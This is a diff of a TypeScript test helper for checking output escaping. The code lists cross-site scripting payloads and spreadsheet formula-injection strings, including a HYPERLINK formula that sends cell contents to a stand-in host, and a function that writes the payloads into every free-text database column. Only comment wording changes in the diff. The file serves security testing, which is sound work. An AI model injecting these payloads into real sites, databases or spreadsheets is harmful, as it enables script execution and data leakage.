@@ -1,11 +1,11 @@
 import type pg from 'pg';
 
-// Texts that would become markup or script if output unescaped.
+// Texts that would become markup or scripts if they were output without escaping.
 
-/** Marks injected elements and attributes; injected scripts call `__ran`. */
+/** Marks injected elements by an attribute. Injected scripts call `__ran`. */
 export const markOfMarkup = 'data-ran';
 
-/** Each closes its likely context, or targets something other than HTML. At most 100 characters. */
+/** Each closes the context it is likely to be in, or targets something other than HTML. At most 100 characters long. */
 export const markup: readonly string[] = [
   `"'></textarea></style></title></template></script><img data-ran src=//away.invalid/a onerror=__ran()>`,
   '<svg data-ran onload=__ran()><script data-ran>__ran()</script><animate data-ran onbegin=__ran()>',
@@ -22,7 +22,7 @@ export const markup: readonly string[] = [
 ];
 export const shortMarkup = '"><b data-ran onclick=__ran()>';
 
-/** Cell beginnings that spreadsheets evaluate. */
+/** The start of cells that spreadsheets evaluate. */
 export const formulas: readonly string[] = [
   '=HYPERLINK("//away.invalid/"&A1)',
   '+1+1',
@@ -36,7 +36,7 @@ export const formulas: readonly string[] = [
   '"=1"&"',
 ];
 
-// Columns without free text: generated, parsed, or used as keys.
+// Columns without free text, because they are generated, parsed or used as keys.
 const noWords: Readonly<Record<string, readonly string[] | 'all'>> = {
   idempotency_keys: 'all',
   rate_limits: 'all',
@@ -65,7 +65,7 @@ const noWords: Readonly<Record<string, readonly string[] | 'all'>> = {
   printers: ['host'],
 };
 
-/** Appends markup to every free text in a database and prefixes one of `before`; returns the columns that took it. */
+/** Appends markup to all free text in a database, after one of `before`. Returns the columns that accepted it. */
 export async function writeMarkup(client: pg.ClientBase, before: readonly string[] = ['']): Promise<string[]> {
   const { rows } = await client.query<{ table: string; column: string }>(
     `select table_name as table, column_name as column from information_schema.columns
@@ -84,7 +84,7 @@ export async function writeMarkup(client: pg.ClientBase, before: readonly string
   return written;
 }
 
-/** Returns how many rows took it: the whole text if it fits, else a different piece in each row. */
+/** Returns how many rows accepted it. If the text is too long for the column, each row gets a different part of it. */
 async function writeIn(
   client: pg.ClientBase,
   table: string,
